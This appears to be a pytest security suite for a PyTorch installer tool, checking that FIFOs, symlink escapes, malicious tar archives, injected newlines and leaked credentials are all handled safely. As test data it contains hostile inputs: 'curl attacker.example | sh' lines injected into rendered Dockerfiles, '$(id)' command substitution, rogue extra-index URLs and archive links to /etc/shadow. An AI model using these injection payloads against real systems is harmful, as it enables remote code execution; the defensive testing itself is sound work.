"""Hostile input: FIFOs, endless files, links out of a captured tree, injected newlines and quotes, credentials.

Every case asserts the safe behaviour: no hang, no file outside the tree read, no extra line in a rendered
file, one error line with an exit code.
"""

from __future__ import annotations

import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from sysroot import SysrootBuilder, host_facts
from torch_install.cli import main
from torch_install.probe import Probe, read_regular

needs_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this OS")


def cli(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    """Run torch-install as a process (the cases that could hang, or that need a process of their own): a hang
    fails the test instead of blocking the run."""
    try:
        return subprocess.run([sys.executable, "-m", "torch_install", *args], capture_output=True, text=True,
                              stdin=subprocess.DEVNULL, timeout=120, check=False, cwd=cwd,
                              env={**os.environ, **(env or {})})
    except subprocess.TimeoutExpired:
        pytest.fail(f"torch-install {' '.join(args)} hung")


def run(capsys: pytest.CaptureFixture[str], *args: str) -> subprocess.CompletedProcess[str]:
    """Run torch-install in this process (a case that cannot hang it), its result as ``cli`` gives it."""
    code = main(list(args))
    out, err = capsys.readouterr()
    return subprocess.CompletedProcess(["torch-install", *args], code, out, err)


# ---- captured trees ---------------------------------------------------------------------------------------------

@pytest.mark.slow
@needs_fifo
def test_fifo_in_a_captured_tree_is_skipped_not_waited_on(tmp_path: Path) -> None:
    b = SysrootBuilder(tmp_path, host_facts(system="Linux"))
    b.file("/etc/os-release", 'ID=debian\nVERSION_ID="12"\n')
    for path in ("proc/cpuinfo", "sys/module/nvidia/version", "proc/driver/nvidia/version"):
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(tmp_path / path)
    assert Probe(root=tmp_path).read_text("/proc/cpuinfo") is None
    done = cli("detect", "--json", "--sysroot", str(tmp_path))
    assert done.returncode == 0, done.stderr
    assert '"nvidia_driver"' not in done.stdout


@needs_fifo
def test_fifo_as_the_environment_file_of_a_tree(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "_env.json")
    assert Probe(root=tmp_path).environ == {}


def test_link_out_of_a_captured_tree_is_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "host-secret"
    secret.write_text("NVRM version: NVIDIA UNIX x86_64 Kernel Module  550.54.15  Tue Mar  5 22:23:50 UTC 2024\n")
    tree = tmp_path / "tree"
    SysrootBuilder(tree, host_facts(system="Linux"))
    (tree / "proc/driver/nvidia").mkdir(parents=True)
    (tree / "proc/driver/nvidia/version").symlink_to(secret)
    (tree / "etc").mkdir()
    (tree / "etc/os-release").symlink_to("../../host-secret")
    (tree / "sys").symlink_to(tmp_path)
    probe = Probe(root=tree)
    assert probe.read_text("/proc/driver/nvidia/version") is None
    assert probe.read_text("/etc/os-release") is None
    assert probe.listdir("/sys") == []


def test_links_inside_a_captured_tree_still_work(tmp_path: Path) -> None:
    b = SysrootBuilder(tmp_path, host_facts(system="Linux"))
    b.file("/sys/bus/pci/drivers/nvidia/module", "")
    (tmp_path / "sys/module").mkdir(parents=True)
    (tmp_path / "sys/module/nvidia").symlink_to("../bus/pci/drivers/nvidia")
    assert Probe(root=tmp_path).read_text("/sys/module/nvidia/module") == ""


@pytest.mark.slow
def test_symlink_loop_in_a_captured_tree(tmp_path: Path) -> None:
    SysrootBuilder(tmp_path, host_facts(system="Linux"))
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/os-release").symlink_to("loop")
    (tmp_path / "etc/loop").symlink_to("os-release")
    assert Probe(root=tmp_path).read_text("/etc/os-release") is None
    done = cli("detect", "--sysroot", str(tmp_path))
    assert done.returncode == 0 and "Traceback" not in done.stderr


def test_a_linked_parent_directory_or_dot_dot_never_leads_out_of_a_captured_tree(tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside/version").write_text("NVRM version: NVIDIA UNIX x86_64 Kernel Module  550.54.15\n")
    tree = tmp_path / "tree"
    b = SysrootBuilder(tree, host_facts(system="Linux"))
    b.file("/sys/devices/pci0000:00/0000:00:01.0/vendor", "0x10de\n")
    (tree / "proc/driver").mkdir(parents=True)
    (tree / "proc/driver/nvidia").symlink_to(tmp_path / "outside")  # a parent, not the file, is the link
    (tree / "sys/bus").mkdir()
    (tree / "sys/bus/hop").symlink_to("../devices/pci0000:00")  # inside the tree ...
    (tree / "sys/devices/pci0000:00/up").symlink_to("../../../../outside")  # ... then out of it
    probe = Probe(root=tree)
    for _ in range(2):  # the second read is answered from what the first learnt about each directory
        assert probe.read_text("/proc/driver/nvidia/version") is None
        assert probe.read_text("/sys/bus/hop/up/version") is None
        assert probe.listdir("/proc/driver/nvidia") == []
        assert probe.read_text("/sys/../../outside/version") is None
        assert probe.read_text("/sys/bus/hop/0000:00:01.0/vendor") == "0x10de\n"
        assert probe.read_text("/sys/bus/hop/0000:00:01.0/../0000:00:01.0/vendor") == "0x10de\n"


def test_exists_and_readlink_never_follow_a_link_out_of_a_captured_tree(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (outside / "0000:01:00.0").mkdir(parents=True)
    (outside / "nvidia0").write_text("")
    (outside / "0000:01:00.0/driver").symlink_to("../../../bus/pci/drivers/nvidia")
    tree = tmp_path / "tree"
    b = SysrootBuilder(tree, host_facts(system="Linux"))
    b.file("/sys/devices/pci0000:00/0000:02:00.0/vendor", "0x10de\n")
    (tree / "dev").symlink_to(outside)  # the host's device nodes must not answer for the captured machine
    (tree / ".dockerenv").symlink_to(outside / "nvidia0")
    (tree / "sys/bus/pci/devices").mkdir(parents=True)
    (tree / "sys/bus/pci/devices/0000:01:00.0").symlink_to(outside / "0000:01:00.0")
    (tree / "sys/bus/pci/devices/0000:02:00.0").symlink_to("../../../devices/pci0000:00/0000:02:00.0")
    (tree / "sys/devices/pci0000:00/0000:02:00.0/driver").symlink_to("../../../bus/pci/drivers/nvidia")
    (tree / "sys/devices/pci0000:00/0000:02:00.0/firmware_node").symlink_to("/sys/devices/LNXSYSTM:00")
    probe = Probe(root=tree)
    for _ in range(2):  # the second answer comes from what the first learnt about each directory
        assert probe.exists("/dev/nvidia0") is False
        assert probe.exists("/dev") is False
        assert probe.exists("/.dockerenv") is False
        assert probe.exists("/sys/bus/pci/devices/0000:01:00.0/driver") is False
        assert probe.readlink("/sys/bus/pci/devices/0000:01:00.0/driver") is None
        assert probe.readlink("/sys/bus/pci/devices/0000:01:00.0/../0000:01:00.0/driver") is None
        assert probe.readlink("/dev/..") is None
        # inside the tree both still work; a link's own target is text, never followed, so it may name anything
        assert probe.exists("/sys/bus/pci/devices/0000:02:00.0/vendor") is True
        assert probe.readlink("/sys/bus/pci/devices/0000:02:00.0/driver") == "../../../bus/pci/drivers/nvidia"
        assert probe.readlink("/sys/bus/pci/devices/0000:02:00.0/firmware_node") == "/sys/devices/LNXSYSTM:00"
        assert probe.readlink("/sys/bus/pci/devices/0000:01:00.0") == str(outside / "0000:01:00.0")
    assert "/dev/nvidia0" not in probe.accessed.files and "/.dockerenv" not in probe.accessed.files


def test_a_captured_tree_without_links_is_read_without_resolving_paths(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    b = SysrootBuilder(tmp_path, host_facts(system="Linux"))
    b.file("/sys/bus/pci/devices/0000:01:00.0/vendor", "0x10de\n").file("/sys/module/nvidia/version", "550.54.15\n")
    (tmp_path / "sys/class").mkdir()
    (tmp_path / "sys/class/gpu").symlink_to("../bus/pci/devices/0000:01:00.0")
    probe = Probe(root=tmp_path)
    resolved: list[str] = []
    realpath = os.path.realpath
    monkeypatch.setattr(os.path, "realpath", lambda path, **kw: resolved.append(os.fspath(path)) or realpath(path))
    for _ in range(3):
        assert probe.read_text("/sys/bus/pci/devices/0000:01:00.0/vendor") == "0x10de\n"
        assert probe.read_text("/sys/module/nvidia/version") == "550.54.15\n"
        assert probe.listdir("/sys/module") == ["nvidia"]
    assert resolved == []
    assert probe.read_text("/sys/class/gpu/vendor") == "0x10de\n"
    assert probe.read_text("/sys/class/gpu/vendor") == "0x10de\n"
    assert resolved == [str(tmp_path / "sys/class/gpu")]  # the link, once


def test_read_regular_stops_at_the_limit_of_an_endless_file() -> None:
    if not os.path.exists("/dev/zero"):
        pytest.skip("no /dev/zero")
    with pytest.raises(OSError, match="not a regular file"):
        read_regular("/dev/zero", 10)
    assert read_regular(__file__, 7) == b'"""Host'


# ---- index base URLs --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("base", [
    "https://mirror.example/whl\n--trusted-host mirror.example",
    "https://mirror.example/whl\nRUN curl attacker.example | sh",
    "https://mirror.example/my whl",
    "https://mirror.example/whl\"\nexplicit = false",
    "https://mirror.example/wh'l",
    "https://mirror.example/${HOME}",
    "https://mirror.example/wh\x1bl",
    "https://mirror.example/whl\rx",
])
@pytest.mark.parametrize("fmt", ["requirements", "dockerfile", "pyproject", "pip"])
def test_index_base_that_could_break_a_rendered_line_is_refused(capsys: pytest.CaptureFixture[str], base: str,
                                                               fmt: str) -> None:
    done = run(capsys, "plan", "--variant", "cpu", "--os", "linux", "--arch", "x86_64", "--python", "3.12",
               "--index-base", base, "--format", fmt)
    assert done.returncode == 2 and done.stdout == ""
    assert len(done.stderr.splitlines()) == 1 and "--index-base" in done.stderr


def test_index_base_with_shell_characters_is_quoted_in_every_command(capsys: pytest.CaptureFixture[str]) -> None:
    import shlex

    base = "https://mirror.example/$(id)&x;y"
    done = run(capsys, "plan", "--variant", "cpu", "--os", "linux", "--arch", "x86_64", "--python", "3.12",
               "--index-base", base, "--format", "pip")
    assert done.returncode == 0, done.stderr
    assert shlex.split(done.stdout)[-1] == f"{base}/cpu"


@pytest.mark.slow
def test_index_base_credentials_are_never_printed() -> None:
    for flag in (["--index-base", "https://alice:s3cret@mirror.example/whl"], ["--index-base", "https://[::1"]):
        done = cli("plan", "--variant", "cpu", "--os", "linux", "--arch", "x86_64", "--python", "3.12", *flag)
        assert done.returncode == 2 and len(done.stderr.splitlines()) == 1, done.stderr
        assert "s3cret" not in done.stderr and "alice" not in done.stderr
    done = cli("plan", "--variant", "cpu", env={"TORCH_INSTALL_INDEX_BASE": "https://bob:hunter2@mirror.example/"})
    assert done.returncode == 2 and "hunter2" not in done.stderr and "***@mirror.example" in done.stderr


# ---- values from the environment, a profile or a captured tree inside rendered files --------------------------

def _target(tmp_path: Path, name: str, note: str) -> str:
    import json

    path = tmp_path / "target.json"
    path.write_text(json.dumps({"os": "linux", "arch": "x86_64", "python": "3.12", "glibc": "2.35",
                                "nvidia_driver": "550.54.15", "notes": [note],
                                "gpus": [{"vendor": "nvidia", "name": name, "compute_capability": "8.9"}]}))
    return str(path)


def test_a_line_break_in_a_base_image_variable_stays_inside_a_dockerfile_comment(
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CUDA_VERSION", "12.4.1\nRUN curl attacker.example | sh\r\nUSER root")
    done = run(capsys, "plan", "--for-container", "--os", "linux", "--arch", "x86_64", "--python", "3.12",
               "--format", "dockerfile")
    assert done.returncode in (0, 1), done.stderr
    lines = done.stdout.splitlines()
    instructions = [line for line in lines if not line.startswith("#")]
    assert instructions[0].startswith("RUN python3 -m pip install")  # the only instructions are the product's own:
    assert instructions[1].startswith("RUN printf ") and instructions[2].startswith("ENV PIP_CONSTRAINT=")  # the pin
    assert len(instructions) == 3
    assert "12.4.1\\nRUN curl attacker.example | sh\\r\\nUSER root" in done.stdout


@pytest.mark.parametrize("fmt", ["dockerfile", "requirements", "variant-env", "text", "pyproject"])
def test_gpu_name_and_notes_from_a_profile_cannot_add_lines(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                          fmt: str) -> None:
    target = _target(tmp_path, "RTX 4090\n--extra-index-url https://attacker.example\x1b[2J",
                     "note\u2028RUN id\nexport X=1")
    done = run(capsys, "plan", "--target", target, "--format", fmt)
    assert done.returncode in (0, 1), done.stderr
    for line in done.stdout.splitlines():
        assert not line.startswith(("--extra-index-url", "RUN id", "export X")), line
        assert "\x1b" not in line and "\u2028" not in line
    if fmt != "pyproject":  # pyproject carries no machine description
        assert "\\n--extra-index-url" in done.stdout


def test_nfd_label_values_never_carry_a_line_break() -> None:
    from torch_install.machine import Gpu, Machine
    from torch_install.render.nfd import nfd_lines

    machine = Machine(os="linux", arch="x86_64", nvidia_driver="550.54.15\n", rocm="6.4\n",
                      gpus=(Gpu(vendor="nvidia", compute_capability="8.9"),))
    lines = nfd_lines(machine).split("\n")
    assert "" not in lines
    assert not any(line.endswith(("nvidia-driver=550.54.15", "rocm=6.4")) for line in lines)


@pytest.mark.parametrize("field", ["nvidia_driver", "rocm", "python", "glibc"])
def test_profile_values_with_a_trailing_line_break_are_refused(field: str) -> None:
    from torch_install.errors import InputError
    from torch_install.machine import machine_from_dict

    value = {"nvidia_driver": "550.54.15", "rocm": "6.4.1", "python": "3.12", "glibc": "2.35"}[field]
    machine_from_dict({field: value})
    with pytest.raises(InputError, match=field):
        machine_from_dict({field: value + "\n"})
    with pytest.raises(InputError, match="gfx"):
        machine_from_dict({"gpus": [{"vendor": "amd", "gfx": "gfx1100\n"}]})


# ---- files named on the command line ----------------------------------------------------------------------------

@pytest.mark.slow
@needs_fifo
@pytest.mark.parametrize("command", [["detect", "--target"], ["plan", "--target"], ["variants"]])
def test_a_fifo_or_endless_file_named_on_the_command_line_is_one_error_line(tmp_path: Path,
                                                                            command: list[str]) -> None:
    os.mkfifo(tmp_path / "profile.json")
    endless = "/dev/zero" if os.path.exists("/dev/zero") else None
    for path in filter(None, [str(tmp_path / "profile.json"), endless]):
        done = cli(*command, path)
        assert done.returncode == 2, done.stderr
        assert len(done.stderr.splitlines()) == 1 and path in done.stderr


def test_an_oversized_profile_is_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "big.json"
    path.write_text('{"notes": ["' + "x" * (2 << 20) + '"]}')
    done = run(capsys, "plan", "--target", str(path))
    assert done.returncode == 2 and "larger than" in done.stderr


# ---- variants URL -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("url", ["http://127.attacker.example/torch-variants.json",
                                 "http://localhost.attacker.example/torch-variants.json",
                                 "http://[::1/torch-variants.json", "file:///etc/passwd"])
def test_variants_url_plain_http_only_for_a_real_loopback_host(url: str) -> None:
    from torch_install.cli.variants import fetch
    from torch_install.errors import InputError

    with pytest.raises(InputError, match="only https"):
        fetch(url)


@pytest.mark.slow
def test_variants_url_credentials_never_printed() -> None:
    done = cli("variants", "https://alice:s3cret@127.0.0.1:9/torch-variants.json")
    assert done.returncode == 3 and len(done.stderr.splitlines()) == 1, done.stderr
    assert "s3cret" not in done.stderr and "https://***@127.0.0.1:9/" in done.stderr


def test_variants_url_redirect_to_plain_http_is_refused(httpserver) -> None:  # noqa: ANN001
    from torch_install.cli.variants import fetch
    from torch_install.errors import EnvironmentFailure

    httpserver.expect_request("/v.json").respond_with_data(
        "", status=302, headers={"Location": "http://127.attacker.example/v.json"})
    with pytest.raises(EnvironmentFailure, match=r"refused a redirect to http://127\.attacker\.example/v\.json"):
        fetch(httpserver.url_for("/v.json"))


# ---- capture archives -------------------------------------------------------------------------------------------

def _archive(path: Path, *members: tarfile.TarInfo, data: bytes = b"") -> str:
    import io

    with tarfile.open(path, "w:gz") as archive:
        for member in members:
            archive.addfile(member, io.BytesIO(data) if member.isfile() and member.size else None)
    return str(path)


def _member(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.size, info.linkname = kind, size, link
    return info


def test_capture_bomb_is_refused_from_its_header(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "bomb.tar.gz"
    with tarfile.open(path, "w:gz") as archive:  # a header that promises 100 GiB, with no data behind it
        header = _member("proc/cpuinfo", size=100 << 30).tobuf(format=tarfile.GNU_FORMAT)
        archive.fileobj.write(header)
    done = run(capsys, "detect", "--sysroot", str(path))
    assert done.returncode == 2 and "too large" in done.stderr and len(done.stderr.splitlines()) == 1


@pytest.mark.parametrize("member", [
    _member("../escaped", size=1), _member("/etc/escaped", size=1), _member("sys/a/../../escaped", size=1),
    _member("dev/nvidia0", tarfile.CHRTYPE), _member("proc/fifo", tarfile.FIFOTYPE),
    _member("sys/hard", tarfile.LNKTYPE, link="/etc/passwd"), _member("a/" * 40 + "deep", size=1),
    _member("x" * 2000, size=1), _member("a/" * 2000 + "x", size=1),
])
def test_capture_members_that_leave_the_tree_or_are_devices_are_refused(capsys: pytest.CaptureFixture[str],
                                                                       tmp_path: Path, member: tarfile.TarInfo) -> None:
    done = run(capsys, "detect", "--sysroot", _archive(tmp_path / "evil.tar.gz", member, data=b"x"))
    assert done.returncode == 2 and len(done.stderr.splitlines()) == 1, done.stderr
    assert not (tmp_path / "escaped").exists()


@pytest.mark.parametrize("link", ["/etc/shadow", "../../..", "../bus/pci/drivers/x"])
def test_a_link_member_is_text_never_followed(tmp_path: Path, link: str) -> None:
    """A link in an archive is only its target's text: reading through it finds nothing, whatever it names."""
    from torch_install.capture import read_capture
    from torch_install.probe import Probe

    member = _member("sys/devices/x/driver", tarfile.SYMTYPE, link=link)
    tree = read_capture(_archive(tmp_path / "links.tar.gz", member))
    probe = Probe(root=tree)
    assert probe.readlink("/sys/devices/x/driver") == link
    assert probe.read_bytes("/sys/devices/x/driver/passwd") is None and probe.listdir("/sys/devices/x/driver") == []


@pytest.mark.slow
def test_a_path_through_a_link_under_another_spelling_is_refused(tmp_path: Path) -> None:
    """The round-3 escape: a link named with "." parts, and a member written "through" it under another spelling."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "notes.txt").write_text("precious\n")
    (tmp_path / "tmp" / "bus" / "pci" / "drivers").mkdir(parents=True)
    (tmp_path / "tmp" / "bus" / "pci" / "drivers" / "x").symlink_to(victim)
    archive = _archive(tmp_path / "evil.tar.gz", _member("././driver", tarfile.SYMTYPE, link="../bus/pci/drivers/x"),
                       _member("driver/notes.txt", size=1), _member("driver/NEWFILE", size=1), data=b"x")
    done = cli("detect", "--sysroot", archive, env={"TMPDIR": str(tmp_path / "tmp")})
    assert done.returncode == 2 and "'driver': a path through a link" in done.stderr, done.stderr
    assert (victim / "notes.txt").read_text() == "precious\n" and sorted(p.name for p in victim.iterdir()) == [
        "notes.txt"]


@pytest.mark.slow
def test_replaying_a_capture_writes_no_file(tmp_path: Path) -> None:
    """The replay only reads: an audit hook in the process sees no file opened for writing, no directory made, no
    link, rename or removal, and the (read-only) temporary directory stays empty."""
    from sysroot import FIXTURES
    from torch_install.capture import capture_members
    from torch_install.detectors import detect
    from torch_install.probe import Probe

    probe = Probe(root=FIXTURES / "rx7900xtx")
    detect(probe)
    archive = tmp_path / "capture.tar.gz"
    from torch_install.capture import write_capture

    assert write_capture(probe, archive) == len(capture_members(probe))
    scratch = tmp_path / "scratch"
    scratch.mkdir(mode=0o500)
    watcher = (
        "import os, sys\n"
        "bad = []\n"
        "def hook(event, args):\n"
        "    if event == 'open' and len(args) > 2 and isinstance(args[0], (str, bytes)) and (\n"
        "            (isinstance(args[1], str) and any(c in args[1] for c in 'wax+'))\n"
        "            or (args[2] or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)):\n"
        "        bad.append(('open', args[0]))\n"
        "    elif event in ('os.mkdir', 'os.symlink', 'os.link', 'os.rename', 'os.remove', 'os.rmdir',\n"
        "                   'os.truncate', 'shutil.rmtree', 'os.chmod'):\n"
        "        bad.append((event, args[0]))\n"
        "sys.addaudithook(hook)\n"
        "from torch_install.cli import main\n"
        "code = main(['detect', '--json', '--sysroot', sys.argv[1]])\n"
        "sys.stderr.write(f'WRITES {bad!r}\\n')\n"
        "raise SystemExit(code)\n")
    done = subprocess.run([sys.executable, "-c", watcher, str(archive)], capture_output=True, text=True,
                          env={**os.environ, "TMPDIR": str(scratch), "TORCH_INSTALL_DEFAULT_INDEX": "none"})
    assert done.returncode == 0, done.stderr
    assert '"gfx": "gfx1100"' in done.stdout
    assert done.stderr.splitlines()[-1] == "WRITES []"
    assert list(scratch.iterdir()) == []
